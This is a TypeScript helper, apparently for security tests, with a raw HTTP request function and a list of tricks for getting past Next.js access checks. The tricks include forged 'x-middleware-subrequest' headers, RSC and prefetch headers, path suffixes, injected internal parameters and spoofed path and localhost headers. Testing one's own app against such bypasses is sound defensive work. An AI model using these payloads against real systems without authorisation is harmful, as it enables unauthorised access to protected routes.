import { type IncomingHttpHeaders, request } from "node:http";

export type Answer = { status: number; headers: IncomingHttpHeaders; body: string };
export type Asking = { method?: string; headers?: Record<string, string>; body?: string };

/** One request exactly as written: no address is tidied, no redirect followed, no header added or refused. */
export function ask(base: string, path: string, { method = "GET", headers = {}, body }: Asking = {}) {
  const { hostname, port } = new URL(base);
  return new Promise<Answer>((resolve, reject) => {
    const asked = request({ hostname, port, path, method, headers, agent: false }, (response) => {
      const parts: Buffer[] = [];
      response.on("data", (part: Buffer) => parts.push(part));
      response.on("error", reject);
      response.on("end", () => {
        const { statusCode = 0, headers } = response;
        resolve({ status: statusCode, headers, body: Buffer.concat(parts).toString("utf8") });
      });
    });
    asked.on("error", reject);
    asked.end(body);
  });
}

/** An attempt to get past the checks: other headers, or another way to write the address. */
export type Trick = { name: string; headers?: Record<string, string>; path?: (path: string) => string };

const added = (query: string) => (path: string) => `${path}${path.includes("?") ? "&" : "?"}${query}`;
const suffixed = (suffix: string) => (path: string) => {
  const [before = "", after] = path.split("?");
  return `${before}${suffix}${after === undefined ? "" : `?${after}`}`;
};
const middleware = (name: string): Trick => ({
  name: `x-middleware-subrequest: ${name}`,
  headers: { "x-middleware-subrequest": name },
});

/** The ways round that Next has known, and a few more. */
export const TRICKS: readonly Trick[] = [
  { name: "plain" },
  middleware("proxy"),
  middleware("middleware:middleware:middleware:middleware:middleware"),
  middleware("src/middleware:src/middleware:src/middleware:src/middleware:src/middleware"),
  { name: "RSC", headers: { rsc: "1" } },
  { name: "RSC with a query", headers: { rsc: "1" }, path: added("_rsc=x") },
  { name: "prefetch of the router", headers: { rsc: "1", "next-router-prefetch": "1" } },
  {
    name: "prefetch of a segment",
    headers: { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
  },
  { name: "prefetch by purpose", headers: { purpose: "prefetch", "sec-purpose": "prefetch" } },
  { name: ".rsc", path: suffixed(".rsc") },
  { name: ".segments", path: suffixed(".segments/_tree.segment.rsc") },
  { name: ".json", path: suffixed(".json") },
  { name: "/.", path: suffixed("/.") },
  { name: "?_rsc", path: added("_rsc=x") },
  { name: "injected parameters", path: added("nxtPprogram=demo&nxtIprogram=demo") },
  { name: "a forged path", headers: { "x-matched-path": "/p/demo", "x-invoke-path": "/p/demo" } },
  { name: "a forged peer", headers: { "x-wavegate-peer": "127.0.0.1", "x-forwarded-for": "127.0.0.1" } },
];
